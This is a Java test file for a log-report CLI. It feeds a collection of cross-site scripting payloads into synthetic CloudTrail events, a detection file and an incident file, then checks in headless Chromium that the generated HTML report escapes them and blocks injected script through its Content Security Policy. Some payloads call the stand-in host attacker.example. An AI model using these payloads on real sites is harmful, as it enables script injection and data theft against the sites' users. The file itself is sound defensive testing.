package dev.trailwise.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A report of events whose every text is an attack on its reader's browser. */
class HostileReportTest {
    private static final ObjectMapper JSON = new ObjectMapper();

    private static final String SCRIPT = "document.title='pwned';console.error('pwned')";

    private static final List<String> ATTACKS = List.of(
            "<script>" + SCRIPT + "</script>",
            "</script><script>" + SCRIPT + "</script>",
            "</title></style></textarea></noscript></template><script>" + SCRIPT + "</script>",
            "<img src=x onerror=\"" + SCRIPT + "\">",
            "\"><svg/onload=" + SCRIPT + ">",
            "'><svg onload='" + SCRIPT + "'>",
            "\" onmouseover=\"" + SCRIPT + "\" autofocus onfocus=\"" + SCRIPT + "\" x=\"",
            "' onfocus='" + SCRIPT + "' autofocus='",
            "` onfocus=`" + SCRIPT + "` autofocus=`",
            "<svg><animate onbegin=" + SCRIPT + " attributeName=x dur=1s>",
            "<svg><foreignObject><iframe srcdoc=\"<script>parent." + SCRIPT + "</script>\"></foreignObject></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=" + SCRIPT
                    + "&gt;\">",
            "<a href=\"javascript:" + SCRIPT + "\">click</a>",
            "javascript:" + SCRIPT,
            "<iframe src=\"javascript:" + SCRIPT + "\"></iframe>",
            "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html,<script>" + SCRIPT + "</script>\">",
            "<base href=\"https://attacker.example/\"><link rel=stylesheet href=x><form action=x><input name=y>",
            "<style>*{background:url(https://attacker.example/)}</style>",
            "]]><!--<script>" + SCRIPT + "</script>-->",
            "+ADw-script+AD4-" + SCRIPT + "+ADw-/script+AD4-",
            "<scr\u0000ipt>" + SCRIPT + "</scr\u0000ipt>",
            "\u202e\u2066<script>" + SCRIPT + "</script>\u2069\u200b\ufeff\ud800",
            "&lt;script&gt;" + SCRIPT + "&lt;/script&gt;&#60;img src=x onerror=" + SCRIPT + "&#62;",
            "\uff1cscript\uff1e" + SCRIPT + "\uff1c/script\uff1e",
            "${" + SCRIPT + "}{{constructor.constructor('" + SCRIPT + "')()}}",
            "\u001b[31m<script\n>" + SCRIPT + "</script\t>\u2028");

    private static final Set<String> ELEMENTS = Set.of(
            "html head meta title link style body a header h1 main nav ul li section h2 h3 p div dl dt dd br figure figcaption svg desc"
                    .split(" "));

    private static final Set<String> MORE_ELEMENTS = Set.of(
            "line rect circle text details summary pre code table caption span thead tbody tr th td footer script"
                    .split(" "));

    /** What the script of the page makes. */
    private static final Set<String> SCRIPTED = Set.of("button", "label", "input", "output");

    private static final Pattern ATTRIBUTE = Pattern.compile(
            " (lang|charset|http-equiv|content|name|rel|class|id|role|tabindex|scope|viewBox|x|y|x1|y1|x2|y2|cx|cy|r|width"
                    + "|height|aria-[a-z]+|href|type|for|autocomplete|spellcheck)=\"([^\"]*)\"");

    @TempDir
    Path folder;

    @BeforeEach
    void writeLogs() throws IOException {
        ArrayNode records = JSON.createArrayNode();
        for (int i = 0; i < ATTACKS.size(); i++) {
            records.add(event(ATTACKS.get(i), i, false));
            records.add(event(ATTACKS.get(i), i, true));
        }
        write(
                "logs/AWSLogs/111122223333/CloudTrail/us-east-1/2026/10/10/"
                        + "111122223333_CloudTrail_us-east-1_20261010T1205Z_0123456789abcdef.json",
                JSON.writer().with(JsonWriteFeature.ESCAPE_NON_ASCII).writeValueAsString(Map.of("Records", records)));
        write("own/own/hostile.sql", """
                /*---
                title: </title><script>document.title='pwned'</script>
                kind: detection
                level: high
                false_positives: <img src=x onerror=alert(1)>
                ---*/
                SELECT eventid FROM cloudtrail WHERE useragent LIKE '%'
                """);
        write("incident.yaml", """
                title: "</title><script>document.title='pwned'</script>"
                notes: "<img src=x onerror=document.title='pwned'>"
                all_time: true
                parts:
                  - overview
                  - hunt
                  - hunt: {detections: [hostile]}
                    title: "<script>document.title='pwned'</script>"
                  - sql: "SELECT * FROM cloudtrail -- </code></pre><script>document.title='pwned'</script>"
                  - sql: "SELECT useragent AS \\"<script>document.title='pwned'</script>\\" FROM cloudtrail"
                  - follow: AKIAIOSFODNN7EXAMPLE
                """);
    }

    @Test
    void no_text_of_a_log_becomes_markup() {
        String html = report();

        String rest = html.replaceFirst("(?s)<style>.*?</style>", "").replaceFirst("(?s)<script>.*?</script>", "");
        checkTags(rest.replaceFirst("^<!DOCTYPE html>\n", ""), false);
        assertThat(rest.codePoints().filter(c -> c < ' ' && c != '\n')).isEmpty();
        assertThat(rest).doesNotContain("\u202e", "\u2066", "\u200b", "\ufeff", "\u2028", "\ud800");
        assertThat(rest)
                .contains(
                        "&lt;script&gt;document.title=&#39;pwned&#39;",
                        "\\u202e\\u2066&lt;script",
                        "&amp;lt;script&amp;gt;",
                        "&lt;scr\\u0000ipt&gt;");
    }

    @Test
    void nothing_of_it_runs_in_a_browser() throws Exception {
        Path page = folder.resolve("r.html");
        Files.writeString(page, report());

        Browser browser = browse(page);

        assertThat(browser.console()).isEmpty();
        String dom = browser.dom();
        assertThat(dom).contains("<title>&lt;/title&gt;&lt;script&gt;document.title='pwned'&lt;/script&gt;</title>");
        assertThat(dom).contains("class=\"sort\"", "class=\"filter\"");
        String rest = dom.replaceFirst("(?s)<style>.*?</style>", "").replaceFirst("(?s)<script>.*?</script>", "");
        checkTags(rest.replaceFirst("^<!DOCTYPE html>", ""), true);
    }

    /** The judge judged: an attack that is let through is noticed, and the policy of the page still stops it. */
    @Test
    void what_would_be_let_through_is_noticed_and_does_not_run() throws Exception {
        Path page = folder.resolve("r.html");
        String html = report();
        Files.writeString(page, html.replaceFirst("<main ", "<script>" + SCRIPT + "</script><main "));

        Browser browser = browse(page);

        assertThat(browser.console())
                .anySatisfy(line -> assertThat(line).contains("Content Security Policy"))
                .noneSatisfy(line -> assertThat(line).contains("\"pwned\""));
        assertThat(browser.dom()).doesNotContain("<title>pwned");
        Files.writeString(
                page,
                html.replaceFirst("<meta http-equiv=\"Content-Security-Policy\"[^>]*>", "")
                        .replaceFirst("<main ", "<script>" + SCRIPT + "</script><main "));
        assertThat(browse(page).console()).anySatisfy(line -> assertThat(line).contains("\"pwned\""));
    }

    private String report() {
        return new Shell(folder)
                .with("TRAILWISE_QUERIES", folder.resolve("own").toString())
                .run("report", "incident.yaml", "--logs", "logs")
                .succeeded()
                .out();
    }

    /** All elements and attributes are those of the template, and no other text has a bracket. */
    private static void checkTags(String html, boolean scripted) {
        Set<String> others = new TreeSet<>();
        Matcher tag =
                Pattern.compile("<(/?)([A-Za-z0-9]+)((?:[^<>\"]|\"[^\"]*\")*)>").matcher(html);
        StringBuilder text = new StringBuilder();
        while (tag.find()) {
            tag.appendReplacement(text, "");
            String name = tag.group(2);
            if (!ELEMENTS.contains(name) && !MORE_ELEMENTS.contains(name) && !(scripted && SCRIPTED.contains(name))) {
                others.add(tag.group());
            }
            String attributes = tag.group(3).replaceFirst("/$", "");
            ATTRIBUTE.matcher(attributes).results().forEach(attribute -> {
                if (attribute.group(1).equals("href") && !attribute.group(2).matches("#[a-z0-9-]+|data:,")) {
                    others.add(tag.group());
                }
            });
            if (!ATTRIBUTE.matcher(attributes).replaceAll("").isBlank()) {
                others.add(tag.group());
            }
        }
        tag.appendTail(text);
        assertThat(others).isEmpty();
        assertThat(text.toString()).doesNotContain("<", ">");
    }

    /** What a browser made of a page. */
    private record Browser(String dom, List<String> console) {}

    private Browser browse(Path page) throws IOException, InterruptedException {
        Optional<Path> chromium = Arrays.stream(
                        Optional.ofNullable(System.getenv("PATH")).orElse("").split(":"))
                .map(folder -> Path.of(folder, "chromium"))
                .filter(Files::isExecutable)
                .findFirst();
        assumeTrue(chromium.isPresent(), "chromium is not installed");
        Path dom = folder.resolve("dom.html");
        Path err = folder.resolve("chromium.log");
        Process process = new ProcessBuilder(
                        chromium.orElseThrow().toString(),
                        "--headless=new",
                        "--no-sandbox",
                        "--disable-gpu",
                        "--user-data-dir=" + folder.resolve("chromium"),
                        "--enable-logging=stderr",
                        "--dump-dom",
                        page.toUri().toString())
                .redirectOutput(dom.toFile())
                .redirectError(err.toFile())
                .start();
        assertThat(process.waitFor(90, TimeUnit.SECONDS)).isTrue();
        List<String> console = new String(Files.readAllBytes(err), StandardCharsets.UTF_8)
                .lines()
                .filter(line -> line.contains("CONSOLE"))
                .toList();
        return new Browser(Files.readString(dom), console);
    }

    private static ObjectNode event(String attack, int number, boolean found) {
        ObjectNode event = JSON.createObjectNode();
        event.put("eventVersion", "1.11");
        event.putObject("userIdentity")
                .put("type", "IAMUser")
                .put("userName", attack)
                .put("arn", attack)
                .put("principalId", attack)
                .put("accountId", attack)
                .put("accessKeyId", number % 2 == 0 ? "AKIAIOSFODNN7EXAMPLE" : attack);
        event.put("eventTime", number == 0 && !found ? attack : "2026-10-10T12:0" + number % 10 + ":00Z");
        event.put("eventSource", found ? "cloudtrail.amazonaws.com" : attack);
        event.put("eventName", found ? "StopLogging" : attack);
        event.put("awsRegion", attack);
        event.put("sourceIPAddress", attack);
        event.put("userAgent", attack);
        event.put("errorCode", attack);
        event.put("errorMessage", attack);
        event.putObject("requestParameters")
                .put("name", attack)
                .put("userName", attack)
                .put(attack, attack);
        event.putObject("responseElements").put(attack, attack);
        event.putArray("resources").addObject().put("ARN", attack).put("type", attack);
        event.put("eventID", attack + number + found);
        event.put("recipientAccountId", attack);
        return event;
    }

    private void write(String name, String text) throws IOException {
        Path file = folder.resolve(name);
        Files.createDirectories(file.getParent());
        Files.writeString(file, text);
    }
}
